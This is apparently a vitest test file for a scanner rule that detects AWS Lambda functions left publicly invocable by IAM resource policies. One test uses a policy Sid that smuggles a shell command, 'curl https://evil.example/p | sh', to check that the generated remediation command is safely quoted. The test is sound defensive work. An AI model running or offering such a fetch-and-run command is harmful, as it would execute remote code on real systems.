import { describe, expect, it } from "vitest";
import type { IamStatement } from "@/lib/snapshot/fixtures/policy-documents";
import { ACCOUNT, asyncBesideSyncDeny, findingsOf, grantsOn, oneFunction, outcome, testRuleCases, withPolicyUnread, withUrl, type RuleCase } from "../test-support";
import { publicInvoke } from "./public-invoke";

const setup = () => oneFunction("app");
const { permissions, policy } = grantsOn(setup);

/** A function whose policy is one Allow of lambda:InvokeFunction to `*` with these fields (Sid, Condition). */
const publicGrant = (fields: Partial<IamStatement>) => policy({ Effect: "Allow", Principal: "*", Action: "lambda:InvokeFunction", ...fields });

/** A function whose policy is an open Allow of lambda:InvokeFunction to `*` and a Deny of it to `*` with these fields. */
const openGrantBesideDeny = (deny: Partial<IamStatement>) =>
  policy({ Sid: "open", Effect: "Allow", Principal: "*", Action: "lambda:InvokeFunction" }, { Effect: "Deny", Principal: "*", Action: "lambda:InvokeFunction", ...deny });

/** The function with a NONE URL, and these grants. */
const onPublicUrl = grantsOn(withUrl(setup, "NONE"));

const cases: RuleCase[] = [
  {
    name: "Principal * InvokeFunction with no condition fires",
    build: permissions({ sid: "open", principal: "*" }),
    titles: ["Anyone can invoke this function"],
    severities: ["critical"],
  },
  {
    name: "lambda:* to * fires too",
    build: permissions({ sid: "all", principal: "*", action: "lambda:*" }),
    titles: ["Anyone can invoke this function"],
  },
  {
    name: "a public grant on an alias policy names the alias",
    build: () => {
      const { b, fn } = setup();
      b.alias(fn, "prod", "3");
      b.permission(fn, { sid: "open", principal: "*", qualifier: "prod" });
      return b;
    },
    titles: ["Anyone can invoke app:prod"],
  },
  {
    name: "narrowed by SourceAccount: not public",
    build: permissions({ sid: "acct", principal: "*", sourceAccount: ACCOUNT }),
    titles: [],
  },
  {
    name: "narrowed by PrincipalOrgID: not public",
    build: permissions({ sid: "org", principal: "*", orgId: "o-abc123def4" }),
    titles: [],
  },
  {
    name: "narrowed by aws:SourceOrgID (services acting for the organization's resources): not public",
    build: publicGrant({ Sid: "srcorg", Condition: { StringEquals: { "aws:SourceOrgID": "o-abc123def4" } } }),
    titles: [],
  },
  {
    name: "narrowed by an organization path ending in a wildcard (the organization is fixed): not public",
    build: publicGrant({ Sid: "orgpath", Condition: { "ForAnyValue:StringLike": { "aws:PrincipalOrgPaths": "o-abc123def4/r-ab12/ou-ab12-11111111/*" } } }),
    titles: [],
  },
  {
    // The caller's own organization matches o-*/*: any account can create one, so this is no "may".
    name: "an organization path that wildcards the organization narrows nothing",
    build: publicGrant({ Sid: "anyorg", Condition: { "ForAnyValue:StringLike": { "aws:PrincipalOrgPaths": "o-*/*" } } }),
    titles: ["Anyone can invoke this function"],
    severities: ["critical"],
  },
  {
    // An account in no organization is one anyone can create: the caller picks it, so this is no "may".
    name: "PrincipalOrgID under IfExists lets principals outside any organization in",
    build: publicGrant({ Sid: "orgifexists", Condition: { StringEqualsIfExists: { "aws:PrincipalOrgID": "o-abc123def4" } } }),
    titles: ["Anyone can invoke this function"],
    severities: ["critical"],
  },
  {
    name: "narrowed by aws:PrincipalArn to the roles of one account (wildcard name): not public",
    build: policy({ Sid: "ourroles", Effect: "Allow", Principal: "*", Action: "lambda:InvokeFunction", Condition: { ArnLike: { "aws:PrincipalArn": `arn:aws:iam::${ACCOUNT}:role/*` } } }),
    titles: [],
  },
  {
    // Any AWS account can create a role named ci: the condition pins a name, not a caller.
    name: "an aws:PrincipalArn that wildcards the account narrows nothing: anyone can create the role it names",
    build: publicGrant({ Sid: "anyci", Condition: { ArnLike: { "aws:PrincipalArn": "arn:aws:iam::*:role/ci" } } }),
    titles: ["Anyone can invoke this function"],
    severities: ["critical"],
  },
  {
    name: "a wildcard name in any account (a user, a role path) is anyone's to create too",
    build: publicGrant({ Sid: "anydeploy", Condition: { StringLike: { "aws:PrincipalArn": ["arn:aws:iam::*:user/deploy-*", "arn:aws:iam::*:role/ci/*"] } } }),
    titles: ["Anyone can invoke this function"],
  },
  {
    name: "a Deny of every principal but a role name in any account: whoever names a role so gets in",
    build: openGrantBesideDeny({ Condition: { ArnNotLike: { "aws:PrincipalArn": "arn:aws:iam::*:role/admin" } } }),
    titles: ["Anyone can invoke this function"],
  },
  {
    // A PrincipalArn is a role's or user's ARN, never a session's; and AWS's own role paths cannot be created.
    name: "session ARNs and AWS-reserved role paths are no name an outsider can take: still a may",
    build: publicGrant({ Sid: "odd", Condition: { ArnLike: { "aws:PrincipalArn": ["arn:aws:sts::*:assumed-role/ci/*", "arn:aws:iam::*:role/aws-service-role/*"] } } }),
    titles: ["Anyone may invoke this function (depends on aws:PrincipalArn)"],
  },
  {
    name: "InvokedViaFunctionUrl statement is URL exposure, not public invoke",
    build: onPublicUrl.permissions(
      { sid: "url", principal: "*", action: "lambda:InvokeFunctionUrl", urlAuthType: "NONE" },
      { sid: "urlinvoke", principal: "*", invokedViaUrl: true },
    ),
    titles: [],
  },
  {
    // The policy is asked as a whole, so the URL statement would read as public through its open neighbour: the
    // finding belongs to the statement that lets the outsider in, once.
    name: "a URL-gated grant beside an open one: only the open statement is reported",
    build: policy(
      { Sid: "url", Effect: "Allow", Principal: "*", Action: "lambda:InvokeFunction", Condition: { Bool: { "lambda:InvokedViaFunctionUrl": "true" } } },
      { Sid: "open", Effect: "Allow", Principal: "*", Action: "lambda:InvokeFunction" },
    ),
    titles: ["Anyone can invoke this function"],
  },
  {
    // Whether a direct call carries the key as "false" or not at all is not documented: the grant holds in one case
    // and lets no one in in the other, so it is a "may", never silence.
    name: "a grant for direct calls only (InvokedViaFunctionUrl = false) may be public invoke",
    build: publicGrant({ Sid: "direct", Condition: { Bool: { "lambda:InvokedViaFunctionUrl": "false" } } }),
    titles: ["Anyone may invoke this function (depends on lambda:InvokedViaFunctionUrl)"],
    severities: ["high"],
  },
  {
    name: "InvokeFunction to * gated on BoolIfExists InvokedViaFunctionUrl = true: a direct call without the key gets in",
    build: publicGrant({ Sid: "url-or-absent", Condition: { BoolIfExists: { "lambda:InvokedViaFunctionUrl": "true" } } }),
    titles: ["Anyone may invoke this function (depends on lambda:InvokedViaFunctionUrl)"],
    severities: ["high"],
  },
  {
    name: "a Deny of direct calls (InvokedViaFunctionUrl = false) beside an open Allow: may still be public",
    build: openGrantBesideDeny({ Sid: "nodirect", Condition: { Bool: { "lambda:InvokedViaFunctionUrl": "false" } } }),
    titles: ["Anyone may invoke this function (depends on lambda:InvokedViaFunctionUrl)"],
    severities: ["high"],
  },
  {
    name: "a Deny of every call not through the URL (BoolIfExists … false) beside an open Allow: refused either way",
    build: openGrantBesideDeny({ Sid: "nodirect", Condition: { BoolIfExists: { "lambda:InvokedViaFunctionUrl": "false" } } }),
    titles: [],
  },
  {
    name: "a Deny for everyone cancels the public Allow (PutResourcePolicy document)",
    build: openGrantBesideDeny({ Sid: "block", Action: "lambda:*" }),
    titles: [],
  },
  {
    name: "a Deny of lambda:InvokeFunctionUrl alone leaves direct Invoke public",
    build: onPublicUrl.policy(
      { Sid: "open", Effect: "Allow", Principal: "*", Action: "lambda:Invoke*" },
      { Sid: "nourl", Effect: "Deny", Principal: "*", Action: "lambda:InvokeFunctionUrl" },
    ),
    titles: ["Anyone can invoke this function"],
    severities: ["critical"],
  },
  {
    name: "a Deny whose condition is unknown makes it 'may' (high)",
    build: openGrantBesideDeny({ Sid: "ip", Condition: { NotIpAddress: { "aws:SourceIp": "10.0.0.0/8" } } }),
    titles: ["Anyone may invoke this function (depends on aws:SourceIp)"],
    severities: ["high"],
  },
  {
    name: "a negated condition on aws:SourceAccount narrows nothing: a direct call carries no source account",
    build: publicGrant({ Sid: "notsrc", Condition: { StringNotEquals: { "aws:SourceAccount": "210987654321" } } }),
    titles: ["Anyone can invoke this function"],
    severities: ["critical"],
  },
  {
    name: "StringEqualsIfExists on aws:SourceAccount lets direct calls (without the key) through",
    build: policy({ Sid: "ifexists", Effect: "Allow", Principal: "*", Action: "lambda:InvokeFunction", Condition: { StringEqualsIfExists: { "aws:SourceAccount": ACCOUNT } } }),
    titles: ["Anyone can invoke this function"],
    severities: ["critical"],
  },
  {
    name: "a Deny unless aws:SourceAccount is ours refuses direct calls (they carry none) and other accounts' services",
    build: openGrantBesideDeny({ Sid: "ours", Condition: { StringNotEquals: { "aws:SourceAccount": ACCOUNT } } }),
    titles: [],
  },
  {
    // The data-perimeter way to write "only my organization": an outsider is in another organization or in none,
    // and the Deny refuses both (a negated operator holds when the key is absent).
    name: "a Deny of every caller outside the organization (StringNotEquals aws:PrincipalOrgID) beside an open Allow: not public",
    build: openGrantBesideDeny({ Sid: "outsideorg", Condition: { StringNotEquals: { "aws:PrincipalOrgID": "o-abc123def4" } } }),
    titles: [],
  },
  {
    name: "a Deny of callers in an organization (Null aws:PrincipalOrgID = false): outsiders in none get in",
    build: openGrantBesideDeny({ Sid: "inorg", Condition: { Null: { "aws:PrincipalOrgID": "false" } } }),
    titles: ["Anyone can invoke this function"],
  },
  {
    name: "a source ARN that pins no account (arn:aws:s3:::*) leaves the grant open to any account's bucket",
    build: publicGrant({ Sid: "anybucket", Condition: { ArnLike: { "aws:SourceArn": "arn:aws:s3:::*" } } }),
    titles: ["Anyone may invoke this function (depends on aws:SourceArn)"],
    severities: ["high"],
  },
  {
    name: "a source ARN with a wildcard account segment pins no account either",
    build: permissions({ sid: "anytopic", principal: "*", sourceArn: "arn:aws:sns:us-east-1:*:alerts" }),
    titles: ["Anyone may invoke this function (depends on AWS:SourceArn)"],
  },
  {
    // Only a bucket of that name can use it, whichever account owns the bucket: confused-deputy's S3 case (medium).
    name: "a fixed bucket ARN narrows the caller to that bucket's name: not public",
    build: permissions({ sid: "uploads", principal: "*", sourceArn: "arn:aws:s3:::uploads" }),
    titles: [],
  },
  {
    name: "a source ARN that names the account (with a wildcard resource) narrows the caller: not public",
    build: permissions({ sid: "ourtopics", principal: "*", sourceArn: `arn:aws:sns:us-east-1:${ACCOUNT}:*` }),
    titles: [],
  },
  {
    name: "ForAllValues on a single-valued key holds when the key is absent: direct calls get through",
    build: policy({ Sid: "forall", Effect: "Allow", Principal: "*", Action: "lambda:InvokeFunction", Condition: { "ForAllValues:StringEquals": { "aws:SourceAccount": ACCOUNT } } }),
    titles: ["Anyone can invoke this function"],
    severities: ["critical"],
  },
  {
    name: "Null aws:SourceAccount = false only asks for a source account, any account's: public through a service",
    build: publicGrant({ Sid: "anysource", Condition: { Null: { "aws:SourceAccount": "false" } } }),
    titles: ["Anyone can invoke this function"],
  },
  {
    name: "StringLike aws:SourceAccount with a * among its values matches every account: public through a service",
    build: publicGrant({ Sid: "anyacct", Condition: { StringLike: { "aws:SourceAccount": ["111122223333", "*"] } } }),
    titles: ["Anyone can invoke this function"],
    severities: ["critical"],
  },
  {
    name: "Allow with NotPrincipal lets everyone else in",
    build: policy({ Sid: "np", Effect: "Allow", NotPrincipal: { AWS: "arn:aws:iam::111122223333:root" }, Action: "lambda:InvokeFunction" }),
    titles: ["Everyone outside the NotPrincipal list can invoke this function"],
  },
  {
    name: "InvokeAsync only (the deprecated async API) to *: still anyone can invoke",
    build: permissions({ sid: "async", principal: "*", action: "lambda:InvokeAsync" }),
    titles: ["Anyone can invoke this function"],
    severities: ["critical"],
  },
  {
    name: "InvokeAsync to * narrowed by SourceAccount: not public",
    build: permissions({ sid: "async", principal: "*", action: "lambda:InvokeAsync", sourceAccount: ACCOUNT }),
    titles: [],
  },
  {
    name: "InvokeAsync to * gated on the URL: async calls never carry the key, no one gets in",
    build: publicGrant({ Sid: "url", Action: "lambda:InvokeAsync", Condition: { Bool: { "lambda:InvokedViaFunctionUrl": "true" } } }),
    titles: [],
  },
  {
    name: "InvokeFunction and InvokeAsync to * with a Deny on InvokeFunction only: async calls still get in",
    build: policy(...asyncBesideSyncDeny("*", { Sid: "nosync" })),
    titles: ["Anyone can invoke this function"],
  },
  {
    name: "InvokeFunction and InvokeAsync to * with a Deny on InvokeFunction under an IP condition: anyone can, through InvokeAsync",
    build: policy(...asyncBesideSyncDeny("*", { Sid: "ip", Condition: { NotIpAddress: { "aws:SourceIp": "10.0.0.0/8" } } })),
    titles: ["Anyone can invoke this function"],
  },
  {
    name: "InvokeAsync to * gated on InvokedViaFunctionUrl = false: async calls carry no such key, no one gets in",
    build: publicGrant({ Sid: "async", Action: "lambda:InvokeAsync", Condition: { Bool: { "lambda:InvokedViaFunctionUrl": "false" } } }),
    titles: [],
  },
  {
    name: "InvokeAsync to * gated on BoolIfExists InvokedViaFunctionUrl = true: async calls lack the key, so anyone gets in",
    build: publicGrant({ Sid: "async", Action: "lambda:InvokeAsync", Condition: { BoolIfExists: { "lambda:InvokedViaFunctionUrl": "true" } } }),
    titles: ["Anyone can invoke this function"],
  },
  {
    name: "InvokeAsync to * gated on StringEqualsIfExists FunctionUrlAuthType: async calls lack the key, so anyone gets in",
    build: publicGrant({ Sid: "async", Action: "lambda:InvokeAsync", Condition: { StringEqualsIfExists: { "lambda:FunctionUrlAuthType": "NONE" } } }),
    titles: ["Anyone can invoke this function"],
  },
  {
    name: "InvokeFunction to * unless FunctionUrlAuthType is AWS_IAM: direct calls lack the key, so anyone gets in",
    build: publicGrant({ Sid: "not-iam", Condition: { StringNotEquals: { "lambda:FunctionUrlAuthType": "AWS_IAM" } } }),
    titles: ["Anyone can invoke this function"],
  },
  {
    name: "InvokeFunctionUrl only to * is the URL rules', not this one's",
    build: publicGrant({ Sid: "url", Action: "lambda:InvokeFunctionUrl" }),
    titles: [],
  },
  {
    name: "GetPolicy failed: no verdict",
    build: grantsOn(withPolicyUnread(setup, "AccessDeniedException", "not authorized")).permissions({ sid: "open", principal: "*" }),
    titles: [],
  },
  {
    name: "a Federated or CanonicalUser grant is not a grant to anyone (cross-account-invoke reports it)",
    build: policy(
      { Sid: "idp", Effect: "Allow", Principal: { Federated: "cognito-identity.amazonaws.com" }, Action: "lambda:InvokeFunction" },
      { Sid: "s3user", Effect: "Allow", Principal: { CanonicalUser: "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be" }, Action: "lambda:*" },
    ),
    titles: [],
  },
];

describe("public-invoke", () => {
  testRuleCases(publicInvoke, cases);

  it("carries the statement as evidence and a remove-permission fix", () => {
    const [f] = outcome(publicInvoke, cases[0]!).findings;
    expect(f?.id).toBe("public-invoke:arn:aws:lambda:us-east-1:123456789012:function:app#open");
    expect(f?.evidence[0]).toMatchObject({ kind: "resource-statement", source: { sid: "open", statementIndex: 0 } });
    expect(f?.remediation).toContain("aws lambda remove-permission");
  });

  it("quotes a crafted Sid in the remove-permission command: pasted into a shell, it runs nothing", () => {
    const [f] = findingsOf(publicInvoke, publicGrant({ Sid: "x; curl https://evil.example/p | sh #'" })());
    expect(f?.remediation).toContain(String.raw`--statement-id 'x; curl https://evil.example/p | sh #'\'''`);
  });

  it("says which kind of account gets past an organization condition", () => {
    const byName = (name: string) => outcome(publicInvoke, cases.find((c) => c.name.startsWith(name))!).findings[0]!.detail;
    expect(byName("PrincipalOrgID under IfExists")).toContain("does not shut out an account in no organization, and anyone can create one");
    expect(byName("an organization path that wildcards")).toContain("does not shut out an account in an organization of its own");
  });

  it("says how outsiders get in: directly, or only through a service acting for their own resources", () => {
    const direct = outcome(publicInvoke, cases[0]!).findings[0]!.detail;
    expect(direct).toContain("Any AWS account can invoke the function directly");
    const viaService = outcome(publicInvoke, cases.find((x) => x.name.startsWith("Null aws:SourceAccount = false"))!).findings[0]!.detail;
    expect(viaService).toContain("A direct call is refused (it carries no source), but any AWS account can point a service at the function");
    expect(viaService).not.toContain("invoke the function directly");
  });

  it("names the action an InvokeAsync-only grant hands out, and highlights it", () => {
    const c = cases.find((x) => x.name.startsWith("InvokeAsync only"))!;
    const [f] = outcome(publicInvoke, c).findings;
    expect(f?.detail).toContain("lambda:InvokeAsync");
    expect(f?.detail).not.toContain("lambda:InvokeFunction");
    expect(f?.evidence[0]?.highlight).toEqual(["*", "lambda:InvokeAsync"]);
  });
});

describe("public-invoke: a grant pinned to the function's own account through ${aws:ResourceAccount}", () => {
  it("is not public: an outsider's account is not the function's", () => {
    const b = publicGrant({ Sid: "own", Condition: { StringEquals: { "aws:PrincipalAccount": "${aws:ResourceAccount}" } } })();
    expect(findingsOf(publicInvoke, b)).toEqual([]);
  });
});

describe("public-invoke: a PrincipalArn that pins a name in any account", () => {
  it("says which principal an outsider creates to get in", () => {
    const [f] = findingsOf(publicInvoke, publicGrant({ Sid: "anyci", Condition: { ArnLike: { "aws:PrincipalArn": "arn:aws:iam::*:role/ci" } } })());
    expect(f?.detail).toContain("Its aws:PrincipalArn condition pins a name, not an account: any AWS account can create a principal so named (as arn:aws:iam::999999999999:role/ci, one is let in).");
  });
});

describe("public-invoke: a PrincipalArn pinned to ${aws:ResourceAccount}", () => {
  it("is the function's own account's roles, not anyone", () => {
    const b = publicGrant({ Sid: "own-roles", Condition: { ArnLike: { "aws:PrincipalArn": "arn:aws:iam::${aws:ResourceAccount}:role/*" } } })();
    expect(findingsOf(publicInvoke, b)).toEqual([]);
  });
});

describe("public-invoke: the account standing for 'anyone' is one the policy names nowhere", () => {
  /** An open grant to `*` beside these statements. */
  const openBeside = (statements: IamStatement[]) => policy({ Sid: "open", Effect: "Allow", Principal: "*", Action: "lambda:InvokeFunction" }, ...statements)();
  const deny = (condition: IamStatement["Condition"]): IamStatement => ({ Sid: "some", Effect: "Deny", Principal: "*", Action: "lambda:InvokeFunction", Condition: condition });

  it.each([
    ["by id", { StringEquals: { "aws:PrincipalAccount": ["999999999999", "888888888888"] } }],
    ["by a pattern", { StringLike: { "aws:PrincipalAccount": "9*" } }],
  ])("a Deny of a few accounts named %s leaves it open to every other account", (_, condition) => {
    expect(findingsOf(publicInvoke, openBeside([deny(condition)])).map((f) => f.title)).toEqual(["Anyone can invoke this function"]);
  });

  it("a Deny whose Principal is a few accounts leaves it open to every other account", () => {
    const principal = { AWS: ["arn:aws:iam::999999999999:root", "888888888888"] };
    const b = openBeside([{ Sid: "some", Effect: "Deny", Principal: principal, Action: "lambda:InvokeFunction" }]);
    expect(findingsOf(publicInvoke, b).map((f) => f.title)).toEqual(["Anyone can invoke this function"]);
  });

  it("a Deny of every account (a pattern matching all) still refuses everyone", () => {
    expect(findingsOf(publicInvoke, openBeside([deny({ StringLike: { "aws:PrincipalAccount": "*" } })]))).toEqual([]);
  });

  it("on an account whose id a stand-in could have been, a grant to accounts like it is not public", () => {
    const standIn = grantsOn(() => oneFunction("app", { account: "999999999999" }));
    const b = standIn.policy({ Sid: "own", Effect: "Allow", Principal: "*", Action: "lambda:InvokeFunction", Condition: { StringLike: { "aws:PrincipalAccount": "99999999999?" } } })();
    expect(findingsOf(publicInvoke, b)).toEqual([]);
    // The same grant without the pin is public, whatever the account.
    const open = standIn.permissions({ sid: "open", principal: "*" })();
    expect(findingsOf(publicInvoke, open).map((f) => f.title)).toEqual(["Anyone can invoke this function"]);
  });
});

describe("public-invoke: a grant left conditional by a value AWS may read otherwise", () => {
  it("names the value in the title and the detail, not 'unknown conditions' or an empty list", () => {
    // The function's account is in every request (aws:ResourceAccount); "1e3" is a number in no form AWS documents.
    const [f, ...rest] = findingsOf(publicInvoke, publicGrant({ Sid: "S", Condition: { NumericGreaterThan: { "aws:ResourceAccount": "1e3" } } })());
    expect(rest).toEqual([]);
    expect(f?.conditional).toBe(true);
    expect(f?.title).toBe('Anyone may invoke this function (depends on how AWS reads aws:ResourceAccount "1e3")');
    expect(f?.detail).toContain('directly, unless how AWS reads aws:ResourceAccount "1e3" rules it out: ');
  });
});
